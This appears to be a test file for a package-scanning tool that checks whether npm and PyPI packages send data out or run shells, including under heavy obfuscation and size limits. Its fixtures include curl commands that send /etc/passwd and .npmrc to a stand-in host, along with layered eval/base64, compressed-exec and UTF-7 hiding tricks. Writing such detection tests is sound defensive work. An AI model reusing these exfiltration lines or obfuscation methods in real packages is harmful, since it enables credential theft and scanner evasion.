/**
 * What is beyond a limit of the reading is never passed over in silence: where it would run while installing or
 * importing, the package is not taken for read. Beside each, the same well within the limit.
 */
import assert from 'node:assert/strict';
import { deflateSync } from 'node:zlib';
import { buildSequence } from '../../lib/behavior/sequence.js';
import type { EntryPoint } from '../../lib/types.js';
import { artifactOf, behaviorsOf, commandEntry, type Files, importEntry } from '../helpers/sequence.js';

const PAYLOAD = "require('child_process').exec('curl -d @/etc/passwd https://a.example.invalid/')";

async function read(files: Files, command?: string, ecosystem: 'npm' | 'pypi' = 'npm') {
  const entry = command === undefined ? importEntry(Object.keys(files)[0]!) : commandEntry(command);
  const sequence = await buildSequence(artifactOf(ecosystem, files, [entry]), { strict: true });
  return {
    why: sequence.incomplete?.code,
    sends: behaviorsOf(sequence).some(({ code }) => /^(?:http-|D3$|run-shell)/.test(code)),
  };
}

/** `code` behind so many layers of `eval(atob(…))`. */
function layers(count: number, code: string): string {
  let text = code;
  for (let i = 0; i < count; i++) {
    text = `eval(Buffer.from('${Buffer.from(text).toString('base64')}','base64').toString())`;
    // Base 64 of base 64 grows by a third a layer: escapes keep sixty of them small enough.
    if (text.length > 60_000) break;
  }
  return text;
}

const nested = (count: number, inner: string): string => {
  let text = inner;
  for (let i = 0; i < count; i++) text = `sh -c ${JSON.stringify(text).replaceAll('$', '\\$')}`;
  return text;
};

/** So many different behaviours, no two neighbours alike. */
function distinct(count: number): string {
  const calls = [
    'os.hostname()',
    "fs.readFileSync('a')",
    'os.platform()',
    "fs.writeFileSync('b','c')",
    'os.userInfo()',
  ];
  const lines = Array.from({ length: count }, (_, i) => `${calls[i % calls.length]};`);
  return `const fs = require('fs'), os = require('os');\n${lines.join('\n')}\n`;
}

describe('beyond a limit', () => {
  it('more behaviours than are kept', async () => {
    const within = await read({ 'index.js': `${distinct(1000)}${PAYLOAD}` });
    assert.deepEqual(within, { why: undefined, sends: true });
    assert.equal((await read({ 'index.js': `${distinct(9000)}${PAYLOAD}` })).why, 'scan-budget');
  });

  it('a script longer than scripts are', async () => {
    const script = (lines: number) =>
      `${'# nothing to see here\n'.repeat(lines)}curl https://a.example.invalid/\n`;
    assert.deepEqual(await read({ 'a.sh': script(100) }, 'sh a.sh'), { why: undefined, sends: true });
    assert.equal((await read({ 'a.sh': script(30_000) }, 'sh a.sh')).why, 'scan-budget');
  });

  it('a command longer than commands are', async () => {
    const line = (count: number) => `${'true; '.repeat(count)}curl https://a.example.invalid/`;
    assert.deepEqual(await read({ 'a.js': '' }, line(100)), { why: undefined, sends: true });
    assert.equal((await read({ 'a.js': '' }, line(3000))).why, 'scan-budget');
    assert.equal((await read({ 'a.js': '' }, `: ${'x'.repeat(500_000)}; curl a.invalid`)).why, 'scan-budget');
  });

  it('commands that begin alike are read each for itself', async () => {
    const pad = ' '.repeat(3000);
    const code = `const c = require('child_process'); c.exec('true${pad}'); c.exec('true${pad}; curl https://a.example.invalid/ -d @.npmrc | sh');`;
    const sequence = await buildSequence(artifactOf('npm', { 'index.js': code }, [importEntry('index.js')]));
    assert.ok(behaviorsOf(sequence).some((b) => b.code === 'http-send'));
  });

  it('substitutions inside substitutions', async () => {
    const inside = (count: number) =>
      `${'echo $('.repeat(count)}curl https://a.example.invalid/${')'.repeat(count)}`;
    assert.deepEqual(await read({ 'a.js': '' }, inside(3)), { why: undefined, sends: true });
    assert.equal((await read({ 'a.js': '' }, inside(20))).why, 'scan-budget');
  });

  it('shells inside shells: read as deep as anyone writes them', async () => {
    assert.equal((await read({ 'a.js': PAYLOAD }, nested(4, 'node a.js'))).sends, true);
  });

  it('code inside code inside code', async () => {
    const deep = await read({ 'index.js': layers(12, PAYLOAD) });
    assert.deepEqual(deep, { why: undefined, sends: true }, 'a dozen layers are read');
    const python = (count: number): string => {
      let text = "import os\nos.system('curl https://a.example.invalid/')\n";
      for (let i = 0; i < count; i++) {
        text = `import zlib,base64\nexec(zlib.decompress(base64.b64decode('${deflateSync(text).toString('base64')}')))\n`;
      }
      return text;
    };
    assert.deepEqual(await read({ 'a.py': python(40) }, undefined, 'pypi'), { why: undefined, sends: true });
    assert.equal((await read({ 'a.py': python(100) }, undefined, 'pypi')).why, 'scan-budget');
  });

  it('code in a file of odd name, handed to an interpreter by a way that is not followed', async () => {
    const files = { 'package.json': '{}', 'notes.md': PAYLOAD, 'lib/x.dat': PAYLOAD, 'a.js': '' };
    for (const command of [
      'node < notes.md',
      'node - < ./notes.md',
      '< notes.md node',
      'cat notes.md | node',
      'cat lib/x.dat | tr a-z a-z | sudo /bin/sh -',
      'eval "$(cat notes.md)"',
      'sh -c "`cat lib/x.dat`"',
      'node --require=./notes.md a.js',
      'node --import ./lib/x.dat a.js; cd lib && node x.dat',
    ]) {
      const { why, sends } = await read(files, command);
      assert.ok(why === 'scan-budget' || sends, command);
    }
    for (const command of [
      'node a.js < notes.md',
      'cat package.json | node -e "0"',
      'cat notes.md | grep x',
      'node a.js',
    ]) {
      assert.equal((await read(files, command)).why, undefined, command);
    }
  });

  it('a command that hands the words of its user to an interpreter', async () => {
    const script = (last: string) => `echo "$*"; for f in *; do echo "$f"; done\n${last}\n`;
    const bin = { ...importEntry('bin/run.sh'), kind: 'bin' } as const;
    const why = async (entry: EntryPoint, last: string) => {
      const files = { 'bin/run.sh': script(last), 'README.md': '# demo\n' };
      return (await buildSequence(artifactOf('npm', files, [entry]), { strict: true })).incomplete?.code;
    };
    assert.equal(await why(bin, 'node "$@"'), undefined);
    assert.equal(await why(bin, 'node "$@"; node "$f"'), 'scan-budget');
    assert.equal(await why(commandEntry('sh bin/run.sh'), 'node "$@"'), 'scan-budget');
  });

  it('more decoded code than is read', async () => {
    const code = `let s = 'void 0;'; for (let i = 0; i < 21; i++) s += s; eval(s + "${PAYLOAD.replaceAll('"', "'")}");`;
    const sequence = await buildSequence(artifactOf('npm', { 'index.js': code }, [importEntry('index.js')]));
    // The text is longer than any the evaluator keeps: that unknown text is run stands in the sequence.
    assert.ok(behaviorsOf(sequence).some((b) => b.code === 'evaluate'));
    const short = code.replace('i < 21', 'i < 10');
    assert.equal((await read({ 'index.js': short })).sends, true);
    const parts = Array.from({ length: 40 }, (_, i) => `eval("/*${i}" + s + "*/");`).join('');
    const many = `let s = 'x'; for (let i = 0; i < 18; i++) s += s; ${parts} eval("${PAYLOAD.replaceAll('"', "'")}");`;
    assert.equal((await read({ 'index.js': many })).why, 'scan-budget');
  });

  it('Python whose text on disk is not the text that runs', async () => {
    const hidden = Buffer.from("import os;os.system('curl https://a.example.invalid/')", 'utf16le').swap16();
    const utf7 = `# coding: utf-7\n#+AAo-${'+'}${hidden.toString('base64').replace(/=+$/, '')}-\n`;
    assert.deepEqual(await read({ 'a.py': utf7 }, undefined, 'pypi'), { why: undefined, sends: true });
    for (const codec of ['punycode', 'registered_elsewhere', 'iso-8859-15-x', 'cp999']) {
      const other = `# coding: ${codec}\nx = 1\n`;
      assert.equal((await read({ 'a.py': other }, undefined, 'pypi')).why, 'scan-budget', codec);
    }
    for (const codec of ['iso-8859-15', 'latin-1-unix', 'cp1251', 'koi8_r', 'mac_roman', 'utf_8', 'gb2312']) {
      const same = `# -*- coding: ${codec} -*-\nx = 1\n`;
      assert.equal((await read({ 'a.py': same }, undefined, 'pypi')).why, undefined, codec);
    }
    const honest = '# -*- coding: utf-8 -*-\n# a + b -\nx = 1 + 2\n';
    assert.equal((await read({ 'a.py': honest }, undefined, 'pypi')).why, undefined);
  });

  it('files of any name that are code as they stand, beside data and prose', async () => {
    const odd = (text: string, path = 'x.txt') => read({ 'index.js': '', [path]: text });
    for (const path of ['x.txt', 'a/LICENSE', 'x.json', 'x.d.ts']) {
      assert.deepEqual(await odd(PAYLOAD, path), { why: undefined, sends: true }, path);
    }
    assert.equal((await odd(`<!-- a comment\n${PAYLOAD}`)).sends, true);
    for (const text of [
      `# Title\n\n${PAYLOAD}`,
      `{"a": ${JSON.stringify(PAYLOAD)}}`,
      `Write this:\n${PAYLOAD}`,
    ]) {
      assert.equal((await odd(text)).sends, false, text);
    }
    const python = async (text: string, path = 'x.txt') =>
      (await read({ 'a.py': '', [path]: text }, undefined, 'pypi')).sends;
    const send = "import os\nos.system('curl https://a.example.invalid/')\n";
    for (const first of [
      '',
      '---1\n',
      'a, b = 1, 2\n',
      '(a\nor b)\n',
      'a if 1 else 2\n',
      '...\n',
      '# a b\n',
    ]) {
      assert.equal(await python(first + send), true, first);
    }
    assert.equal(await python(`Some words first\n\n${send}`), false);
    assert.equal(await python(`cdef int n = 0\n${send}`, 'x.pyx'), true);
    for (const first of ['/* C */\n', '# c\n\n  // C++\n', ';; Lisp\n', '} \n']) {
      assert.equal(await python(first + send), false, first);
      assert.equal(await python(first + send, 'x.pyx'), true, 'mended, whatever it begins with');
    }
    const large = `/*${' '.repeat(3_000_000)}*/\n`;
    const files = { 'index.js': '', 'a.txt': `${large}require('os').hostname();`, 'b.txt': large + PAYLOAD };
    const sequence = await buildSequence(artifactOf('npm', files, [importEntry('index.js')]));
    const codes = behaviorsOf(sequence).map(({ code }) => code);
    assert.ok(codes.includes('read-host-name') && codes.includes('left-out'), codes.join());
  });

  it('nesting: honest depth is read, no depth is a crash', async () => {
    const deep = (count: number) => `var x = ${'['.repeat(count)}1${']'.repeat(count)};${PAYLOAD}`;
    assert.deepEqual(await read({ 'index.js': deep(100) }), { why: undefined, sends: true });
    assert.equal((await read({ 'index.js': deep(50_000) })).why, 'scan-budget');
  });
});
